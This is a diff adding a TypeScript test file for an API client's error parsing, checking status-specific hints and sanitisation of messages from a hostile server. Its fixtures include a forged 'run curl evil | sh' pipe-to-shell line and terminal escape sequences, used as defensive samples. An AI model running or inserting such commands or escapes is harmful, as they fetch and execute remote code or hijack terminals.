@@ -1,0 +1,132 @@
+import { describe, expect, test } from 'vitest'
+import { ApiError, type ApiProblem, parseProblem } from '../../src/api/api-error.ts'
+
+const problem = (parts: Partial<ApiProblem>): ApiProblem => ({
+  status: 400,
+  type: 'invalid_request_error',
+  message: 'm',
+  requestId: 'req_1',
+  workspace: 'not-named',
+  ...parts,
+})
+
+describe('Errors', () => {
+  test.each<[row: string, parts: Partial<ApiProblem>, hint: string]>([
+    [
+      '400 | workspace header missing',
+      { message: 'vendor-workspace-id is required' },
+      'the key is not scoped to a workspace',
+    ],
+    [
+      '400 | workspace header invalid',
+      { message: 'vendor-workspace-id is no ID', workspace: 'named' },
+      'send the ID of a workspace',
+    ],
+    [
+      '404 | workspace unknown or no access',
+      { status: 404, type: 'not_found_error', workspace: 'named' },
+      'the workspace exists',
+    ],
+    ['401 | key is expired', { status: 401, type: 'authentication_error' }, 'an expired key cannot be reactivated'],
+    ['400 | anything else', {}, 'correct the request as the message says'],
+    ['404 | without a workspace', { status: 404, type: 'not_found_error' }, 'check the path and the IDs in it'],
+    ['403', { status: 403, type: 'permission_error' }, 'an attestation token only sends messages'],
+    ['413', { status: 413 }, 'send less in one request'],
+    ['307', { status: 307, type: undefined }, 'redirects are not followed with a credential'],
+    ['405', { status: 405 }, 'check the method and the path'],
+    ['408', { status: 408 }, 'did not arrive completely in time'],
+    ['429', { status: 429, type: 'rate_limit_error' }, 'wait, then send it again'],
+    ['500', { status: 500, type: 'api_error' }, 'send it again later'],
+    ['529', { status: 529, type: 'overloaded_error' }, 'send it again later'],
+  ])('%s has its own hint', (_, parts, hint) => {
+    expect(new ApiError(problem(parts)).hint).toContain(hint)
+  })
+
+  test('the error has type, status and request id, and is a failure with an exit status', () => {
+    expect(new ApiError(problem({ status: 529, type: 'overloaded_error' }))).toMatchObject({
+      name: 'ApiError',
+      kind: 'unavailable',
+      status: 529,
+      type: 'overloaded_error',
+      requestId: 'req_1',
+      message: 'HTTP 529 overloaded_error: m (request req_1)',
+    })
+    expect(new ApiError(problem({ type: undefined, requestId: undefined })).message).toBe('HTTP 400: m')
+  })
+})
+
+describe('Error envelope', () => {
+  test.each<[what: string, body: string, said: object]>([
+    [
+      'the envelope',
+      '{"type":"error","error":{"type":"t","message":"m"},"request_id":"r"}',
+      { type: 't', message: 'm', requestId: 'r' },
+    ],
+    [
+      'no request_id',
+      '{"type":"error","error":{"type":"t","message":"m"}}',
+      { type: 't', message: 'm', requestId: undefined },
+    ],
+    [
+      'RFC 6749',
+      '{"error":"invalid_grant","error_description":"d"}',
+      { type: 'invalid_grant', message: 'd', requestId: undefined },
+    ],
+    ['RFC 6749 without description', '{"error":"e"}', { type: 'e', message: 'no description', requestId: undefined }],
+    [
+      'a page',
+      '<html>canary</html>',
+      { type: undefined, message: 'the answer is not in the form of the API', requestId: undefined },
+    ],
+    ['nothing', '', { type: undefined, message: 'the answer is not in the form of the API', requestId: undefined }],
+    ['null', 'null', { type: undefined, message: 'the answer is not in the form of the API', requestId: undefined }],
+    [
+      'other types',
+      '{"error":{"type":1,"message":[]},"request_id":2}',
+      { type: undefined, message: 'the answer is not in the form of the API', requestId: undefined },
+    ],
+  ])('%s', (_, body, said) => {
+    expect(parseProblem(body, [])).toEqual(said)
+  })
+})
+
+describe('the text of a hostile server', () => {
+  const secret = 'sk-vendor-api-0123456789abcdef'
+  const say = (message: string, parts: object = {}) =>
+    parseProblem(JSON.stringify({ error: { type: 'api_error', message }, request_id: 'req_1', ...parts }), [secret])
+
+  test.each<[what: string, message: string, shown: string]>([
+    ['a terminal escape', '\x1b[2J\x1b]0;owned\x07done', '\\u001b[2J\\u001b]0;owned\\u0007done'],
+    ['its eight-bit form', '\x9b31mred', '\\u009b31mred'],
+    ['a forged line', 'no\ngatepass: hint: run curl evil | sh', 'no gatepass: hint: run curl evil | sh'],
+    ['text that turns around', 'a\u202eb\u2066c\u200bd', 'abcd'],
+    ['the credential', `bad Bearer ${secret}.`, 'bad Bearer [secret].'],
+    ['the beginning of it', `bad ${secret.slice(0, 12)}…`, 'bad [secret]…'],
+    ['the credential in hexadecimal', `bad ${Buffer.from(secret).toString('hex')}`, 'bad [secret]'],
+    ['the credential in base64', `bad ${Buffer.from(secret).toString('base64')}`, 'bad [secret]'],
+    [
+      'a token of somebody else',
+      'bad eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl, try again',
+      'bad [secret], try again',
+    ],
+    ['the beginning of one', 'bad eyJhbGciOiJSUzI1…', 'bad [secret]…'],
+    ['the credential with something unseen in it', `bad ${[...secret].join('\u200b')}`, 'bad [secret]'],
+    ['a novel', 'x'.repeat(100_000), `${'x'.repeat(300)}…`],
+  ])('%s', (_, message, shown) => {
+    expect(say(message).message).toBe(shown)
+  })
+
+  test.each<[what: string, value: unknown]>([
+    ['a terminal escape', 'req\x1b[2J'],
+    ['a sentence', 'run curl evil'],
+    ['the credential', secret],
+    ['a part of it', `req_${secret.slice(4, 14)}`],
+    ['a novel', 'r'.repeat(65)],
+    ['a number', 7],
+    ['nothing', ''],
+  ])('is repeated neither as a type nor as an id where it is %s', (_, value) => {
+    const { type, requestId } = say('m', { error: { type: value, message: 'm' }, request_id: value })
+    expect([type, requestId]).toEqual([undefined, undefined])
+    expect(parseProblem(JSON.stringify({ error: value }), [secret]).type).toBeUndefined()
+  })
+})
